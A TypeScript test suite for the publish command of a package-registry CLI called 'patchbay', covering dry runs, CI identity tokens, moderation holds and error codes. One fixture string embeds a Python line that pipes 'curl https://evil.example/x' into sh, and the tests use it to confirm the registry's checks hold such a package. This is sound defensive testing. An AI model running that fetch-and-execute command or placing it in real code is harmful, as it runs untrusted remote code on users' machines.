import assert from 'node:assert/strict';
import { after, test } from 'node:test';
import { join } from 'node:path';
import { makePublisher, uniqueId } from '../../../server/test/support/build.ts';
import { gitlabClaims, openIssuer } from '../../../server/test/support/open-ci-issuer.ts';
import { startServer } from '../../../server/test/support/start-server.ts';
import { suite } from '../../../server/test/support/variants.ts';
import { writeFiles } from '../support/make-folder.ts';
import { appNodeSource, makeProject } from '../support/make-project.ts';
import { openCli } from '../support/open-cli.ts';

/** Runs another program: the checks hold such a package. */
const hostile = 'import os\nos.system("curl https://evil.example/x | sh")\n';

suite('patchbay publish', async () => {
  const server = await startServer({ after });
  const ada = await makePublisher(server, 'ada');
  const cli = await openCli({ after }, { url: server.url, token: ada.token });
  const project = (texts: Partial<Parameters<typeof makeProject>[1]> = {}) =>
    makeProject(cli.cwd, { nodeId: uniqueId('node'), publisherId: 'ada', ...texts });
  const versionsOf = async (nodeId: string) =>
    (
      await ada.owner.get(
        `/nodes/${nodeId}/versions?statuses=NodeVersionStatusActive&statuses=NodeVersionStatusFlagged`,
      )
    ).json;

  test('--json: from a folder to Active, with each step as an event', async () => {
    const nodeId = uniqueId('steps');
    const folder = await project({ nodeId });
    const { code, result, events } = await cli.json(['publish', folder, '--changelog', 'The first.']);
    assert.equal(code, 0, JSON.stringify(result));
    assert.equal(result.data.outcome, 'active');
    assert.equal(result.data.node_version.package_sha256, result.data.package.sha256);
    assert.equal(result.data.node_version.changelog, 'The first.');
    assert.deepEqual(
      events.map(({ type }) => type).filter((type, index, all) => type !== all[index - 1]),
      ['packed', 'checked', 'published', 'uploading', 'uploaded', 'waiting'],
    );
    const [version, ...others] = await versionsOf(nodeId);
    assert.deepEqual([version.version, version.status, others], ['1.0.0', 'NodeVersionStatusActive', []]);
  });

  test('in a terminal: what became of it, and where it is', async () => {
    const nodeId = uniqueId('terminal');
    const answers = [['Publish these files?', true]] as const;
    const { code, stdout, stderr } = await cli.inTerminal(['publish', await project({ nodeId })], {
      answers,
    });
    assert.equal(code, 0, stderr);
    assert.match(stdout, new RegExp(`${nodeId} 1\\.0\\.0 is Active on http`));
    assert.match(stdout, new RegExp(`^Page {5}${server.url}/n/${nodeId}/v/1\\.0\\.0$`, 'm'));
    assert.match(stdout, new RegExp(`^Install {2}patchbay install ${nodeId}$`, 'm'));
    const again = await cli.run(['publish', await project({ nodeId })]);
    assert.match(
      again.stdout,
      /was published before with the same bytes, and is Active on .*Nothing was sent/,
    );
    assert.match(stderr, /Uploading: 100 %/);
  });

  test('in a terminal: before the first version it lists the files and asks; after a no, nothing is there', async () => {
    const nodeId = uniqueId('asked');
    const many = Object.fromEntries(Array.from({ length: 25 }, (_, index) => [`data/${index + 10}.txt`, '']));
    const folder = await project({ nodeId, files: { ...many, '__init__.py': 'x = (1\n' } });
    const no = { answers: [['Publish these files?', false]] } as const;
    const { code, stdout, stderr } = await cli.inTerminal(['publish', folder, '--quiet'], no);
    assert.deepEqual([code, stdout], [130, '']);
    assert.match(stderr, /^The package has 27 files, [\d.]+ (?:bytes|KiB):\n {2}__init__\.py {2}by default/m);
    assert.match(
      stderr,
      /^ {2}data\/28\.txt .*\n {2}and 7 more, which `patchbay pack --list` shows\nError: Nothing/m,
    );
    assert.equal((await server.anonymous.get(`/nodes/${nodeId}`)).status, 404);

    assert.equal((await cli.inTerminal(['publish', folder, '--dry-run'])).code, 0);
    const zip = join(cli.cwd, `${nodeId}.zip`);
    await cli.run(['pack', folder, '--out', zip]);
    const ofZip = await cli.inTerminal(['publish', zip], no);
    assert.match(ofZip.stderr, /has 27 files, .*\n {2}__init__\.py\n(?:.*\n)* {2}and 7 more\nError: Nothing/);
    assert.match(
      ofZip.stderr,
      /^Checked: 0 findings, 0 app-nodes\.\nwarning {2}__init__\.py:1 {2}is not valid Python: x = \(1\nwarning {2}No app-node was found.*\n\nThe package/m,
      'what keeps the host from loading it is said before the question',
    );

    const node = { id: nodeId, name: nodeId, license: 'MIT' };
    assert.equal((await ada.owner.post('/publishers/ada/nodes', node)).status, 201);
    assert.equal((await cli.inTerminal(['publish', folder], no)).code, 130, 'a node without a version');
    const first = await cli.inTerminal(['publish', folder, '--yes']);
    assert.doesNotMatch(first.stderr, /Waiting for nothing/);
    assert.deepEqual([first.code, first.stderr.includes('The package has')], [0, false], first.stderr);
    await ada.owner.delete(`/publishers/ada/nodes/${nodeId}/versions/1.0.0`);
    await cli.json(['version', 'minor', '--folder', folder]);
    assert.equal((await cli.inTerminal(['publish', folder])).code, 0, 'a later version, without a question');
  });

  test('what is published already is waited for again, and stays one version', async () => {
    const nodeId = uniqueId('again');
    const folder = await project({ nodeId });
    await cli.json(['publish', folder]);
    const { code, result, events } = await cli.json(['publish', folder]);
    assert.deepEqual([code, result.data.outcome, result.data.was_published], [0, 'active', true]);
    assert.ok(!events.some(({ type }) => type === 'uploading'), 'nothing is sent twice');
    assert.equal((await versionsOf(nodeId)).length, 1);
  });

  test('5: another content under a version that is published', async () => {
    const nodeId = uniqueId('other');
    const folder = await project({ nodeId });
    await cli.json(['publish', folder]);
    await writeFiles(folder, { '__init__.py': 'VERSION = 2\n' });
    const { code, result } = await cli.json(['publish', folder]);
    assert.deepEqual([code, result.error.code], [5, 'version_exists']);
    assert.match(result.error.message, /published with another content/);
    assert.match(result.error.next, /another version number: `patchbay version patch` raises it/);
  });

  test('what the checks hold is not sent, unless somebody says so', async () => {
    const nodeId = uniqueId('held');
    const folder = await project({ nodeId, files: { 'evil.py': hostile } });
    const stopped = await cli.run(['publish', folder]);
    assert.equal(stopped.code, 1);
    assert.match(stopped.stdout, /error {2}evil\.py:2 /);
    assert.match(stopped.stdout, /was not sent.*--held/);
    assert.equal((await server.anonymous.get(`/nodes/${nodeId}`)).status, 404);

    const { code, result } = await cli.json(['publish', folder, '--held']);
    assert.deepEqual([code, result.ok, result.data.outcome], [1, false, 'held']);
    assert.equal(result.data.node_version.status, 'NodeVersionStatusFlagged');
    assert.ok(result.data.reason && result.data.way_out && result.data.findings.length > 0);

    // The same content, of which a moderator has decided meanwhile, is not for them to look at again.
    const again = await cli.json(['publish', folder]);
    assert.deepEqual([again.code, again.result.data.outcome], [1, 'held']);
    const approval = { status: 'NodeVersionStatusActive', status_reason: 'It is harmless.' };
    await (await server.moderator()).put(`/admin/nodes/${nodeId}/versions/1.0.0`, approval);
    for (const flags of [[], ['--dry-run']]) {
      const { code: end, stdout } = await cli.run(['publish', folder, ...flags]);
      assert.equal(end, 0, stdout);
      assert.match(stdout, /was published before with the same bytes/);
    }
  });

  test('a job of a CI without a token exchanges that of its CI, and its dry run too', async (t) => {
    const issuer = await openIssuer(t, () => trusting.clock.now());
    const trusting = await startServer(t, issuer.settings);
    const eve = await makePublisher(trusting, 'eve');
    const ofCi = await openCli(t, { url: trusting.url });
    const nodeId = uniqueId('trusted');
    const folder = await makeProject(ofCi.cwd, { nodeId, publisherId: 'eve' });
    const job = async () => ({
      env: {
        PATCHBAY_ID_TOKEN: await issuer.sign(
          issuer.urls.gitlab,
          new URL(trusting.url).origin,
          gitlabClaims(issuer.urls.gitlab),
        ),
      },
    });
    const refused = await ofCi.json(['publish', folder], await job());
    assert.deepEqual([refused.code, refused.result.error.code], [3, 'untrusted_identity']);
    assert.equal((await ofCi.json(['publish', folder])).result.error.code, 'not_signed_in');
    await eve.owner.post('/publishers/eve/trusted-publishers', {
      issuer: 'gitlab',
      node_id: nodeId,
      repository: 'my-group/nodes/my-project',
      workflows: ['.gitlab-ci.yml'],
    });
    const dry = await ofCi.json(['publish', folder, '--dry-run'], await job());
    assert.deepEqual([dry.code, dry.result.data.would], [0, 'active'], JSON.stringify(dry.result));
    const { code, result } = await ofCi.json(['publish', folder], await job());
    assert.deepEqual([code, result.data.outcome], [0, 'active'], JSON.stringify(result));
    assert.match(result.data.node_version.built_by.run, /my-project\/-\/jobs\/302$/);
  });

  test('--dry-run: what the registry says, and nothing is there afterwards', async () => {
    const nodeId = uniqueId('dry');
    const folder = await project({ nodeId });
    const { code, result } = await cli.json(['publish', folder, '--dry-run']);
    assert.deepEqual([code, result.data.outcome], [0, 'dry-run'], JSON.stringify(result));
    assert.equal(result.data.dry_run.package.package_sha256, result.data.package.sha256);
    assert.equal((await server.anonymous.get(`/nodes/${nodeId}`)).status, 404);
    assert.equal(result.data.would, 'active');
  });

  test('a dry run and a publish agree about what is published', async () => {
    const nodeId = uniqueId('agreed');
    const folder = await project({ nodeId });
    await cli.run(['publish', folder]);
    const both = async () => [
      await cli.run(['publish', folder, '--dry-run']),
      await cli.run(['publish', folder]),
    ];
    for (const { code, stdout } of await both()) {
      assert.equal(code, 0);
      assert.match(stdout, /was published before with the same bytes.*Nothing (?:was|would be) sent\./);
    }
    const moderator = await server.moderator();
    const set = (status: string) =>
      moderator.put(`/admin/nodes/${nodeId}/versions/1.0.0`, { status, status_reason: 'It harms.' });
    await set('NodeVersionStatusBanned');
    for (const { code, stdout } of await both())
      assert.deepEqual([code, / is Banned: It harms\.$/m.test(stdout)], [1, true], stdout);
    await set('NodeVersionStatusActive');
    await writeFiles(folder, { 'more.py': 'MORE = 1\n' });
    for (const { code, stdout, stderr } of await both()) {
      assert.deepEqual([code, stdout], [5, '']);
      assert.match(
        stderr,
        /Error: Version 1\.0\.0 of .* was published with another content\.\nPublish under/,
      );
    }
    await writeFiles(folder, { 'evil.py': hostile });
    for (const { code, stdout } of await both()) {
      assert.equal(code, 1);
      assert.match(stdout, /(?:was|would) not (?:be )?sent: a moderator would have to look at it/);
    }
  });

  test('a release that breaks inputs without saying so by its number is warned of', async () => {
    const nodeId = uniqueId('breaking');
    const folder = await project({ nodeId });
    await cli.run(['publish', folder]);
    await writeFiles(folder, { '__init__.py': appNodeSource.replace('"width"', '"size"') });
    await cli.json(['version', 'minor', '--folder', folder]);
    const says =
      /warning {2}1\.1\.0 breaks workflows of 1\.0\.0, so by SemVer its number should be 2\.0\.0\..*\nwarning {2}Resize: input width is removed/;
    assert.match((await cli.run(['check', folder])).stdout, says);
    assert.match((await cli.run(['publish', folder, '--dry-run'])).stdout, says);
    await cli.json(['version', 'major', '--folder', folder]);
    const major = await cli.json(['check', folder]);
    assert.deepEqual([major.code, major.result.data.breaking], [0, undefined]);
  });

  test('a dry run ends as the publish that is refused would', async () => {
    const folder = await project();
    const args = ['publish', folder, '--publisher', 'nobody-has-this'];
    const [dry, real] = [await cli.json([...args, '--dry-run']), await cli.json(args)];
    assert.deepEqual([dry.code, dry.result.error?.code], [real.code, real.result.error.code]);
  });

  test('a dry run names what a publish would overwrite of its node', async () => {
    const nodeId = uniqueId('typed');
    await cli.run(['publish', await project({ nodeId })]);
    const described = `[project]\nname = "${nodeId}"\nversion = "1.1.0"\ndescription = "Packed"\n[tool.patchbay]\nPublisherId = "ada"\n`;
    await ada.owner.put(`/publishers/ada/nodes/${nodeId}`, { description: 'Typed on the site' });
    const next = await project({ nodeId, files: { 'pyproject.toml': described } });
    assert.match(
      (await cli.run(['publish', next, '--dry-run'])).stdout,
      /changes {2}description of the node: Typed on the site → Packed\n/,
    );
  });

  test('check asks the registry, too, if there is a token or --remote', async () => {
    const folder = await project();
    const asked = await cli.json(['check', folder]);
    assert.deepEqual([asked.code, asked.result.data.dry_run.wouldPublish], [0, true]);
    const local = await cli.json(['check', folder, '--no-remote']);
    assert.equal(local.result.data.dry_run, undefined);
    const stranger = await openCli({ after }, { url: server.url });
    assert.equal((await stranger.json(['check', folder])).result.data.dry_run, undefined);
    assert.equal((await stranger.json(['check', folder, '--remote'])).result.error.code, 'not_signed_in');
    await cli.run(['publish', folder]);
    const same = await cli.run(['check', folder]);
    assert.equal(same.code, 0);
    assert.match(same.stdout, /note {2}Version 1\.0\.0 was published before with the same bytes/);
    await writeFiles(folder, { 'more.py': 'MORE = 1\n' });
    const refused = await cli.json(['check', folder]);
    assert.deepEqual([refused.code, refused.result.data.published], [1, 'other']);
    const { stdout } = await cli.run(['check', folder]);
    assert.match(stdout, /The exit code is 1 because the registry would refuse it\.$/m);
  });

  test('a registry that is away for a while is waited for, which is shown', async () => {
    let failures = 3;
    const blinking: typeof fetch = async (input, init) => {
      if (init?.method !== 'POST' || failures === 0) return fetch(input, init);
      failures -= 1;
      throw new TypeError('fetch failed');
    };
    const { code, events } = await cli.json(['publish', await project()], { context: { fetch: blinking } });
    assert.equal(code, 0);
    assert.deepEqual(
      events.flatMap(({ type, data }) => (type === 'retrying' ? [data.attempt] : [])),
      [1, 2, 3],
    );
  });

  test('--no-wait ends with the upload', async () => {
    const { code, result } = await cli.json(['publish', await project(), '--no-wait']);
    assert.deepEqual([code, result.data.outcome], [0, 'sent']);
  });

  test('a zip is published as it is', async () => {
    const zip = join(cli.cwd, 'zipped.zip');
    const packed = await cli.json(['pack', await project(), '--out', zip]);
    const { code, result } = await cli.json(['publish', zip, '--no-wait']);
    assert.equal(code, 0, JSON.stringify(result));
    assert.equal(result.data.package.sha256, packed.result.data.package.sha256);
  });

  test('a session makes a token for the publish, and revokes it', async () => {
    const session = await openCli({ after }, { url: server.url, token: ada.owner.bearer });
    const nodeId = uniqueId('session');
    const { code, result } = await session.json(['publish', await project({ nodeId })], {
      context: { now: server.clock.now },
    });
    assert.equal(code, 0, JSON.stringify(result));
    const tokens = (await ada.owner.get('/publishers/ada/tokens')).json;
    assert.deepEqual(
      tokens.map(({ name }) => name),
      ['all'],
    );
  });

  test("the variable of a host's CI recipes, if it holds a token of ours", async () => {
    const stranger = await openCli({ after }, { url: server.url });
    const folder = await project();
    const publish = (token: string) =>
      stranger.json(['publish', folder], { env: { REGISTRY_ACCESS_TOKEN: token } });
    assert.equal((await publish('of-another-registry')).result.error.code, 'not_signed_in');
    assert.equal((await publish(ada.token)).code, 0);
  });

  test('3: nobody is signed in, or the token is not good here', async () => {
    const folder = await project();
    const stranger = await openCli({ after }, { url: server.url });
    const nobody = await stranger.json(['publish', folder]);
    assert.deepEqual([nobody.code, nobody.result.error.code], [3, 'not_signed_in']);
    const bob = await makePublisher(server, uniqueId('bob'));
    const other = await stranger.json(['publish', folder], { env: { PATCHBAY_TOKEN: bob.token } });
    assert.deepEqual([other.code, other.result.error.code], [3, 'forbidden']);
  });

  test('2, 1: no project, no publisher, a project with faults', async () => {
    const folder = await project({ publisherId: '' });
    const nothing = await cli.json(['publish', join(cli.cwd, 'nowhere')]);
    assert.deepEqual([nothing.code, nothing.result.error.code], [2, 'no_project']);
    const unknown = await cli.json(['publish', folder]);
    assert.deepEqual([unknown.code, unknown.result.error.code], [1, 'invalid_project']);
    assert.match(unknown.result.error.next, /--publisher/);
    const given = await cli.json(['publish', folder, '--publisher', 'ada', '--no-wait']);
    assert.equal(given.code, 0);
    await writeFiles(folder, { 'a:b.txt': '' });
    const named = await cli.json(['publish', folder, '--publisher', 'ada']);
    assert.deepEqual([named.code, named.result.error.details[0].path], [1, 'a:b.txt']);
    await writeFiles(folder, { 'pyproject.toml': '[project]\nname = 1\n' });
    const faulty = await cli.json(['publish', folder]);
    assert.deepEqual(
      faulty.result.error.details.map(({ path }: { path: string }) => path),
      ['/project/name'],
    );
  });
});
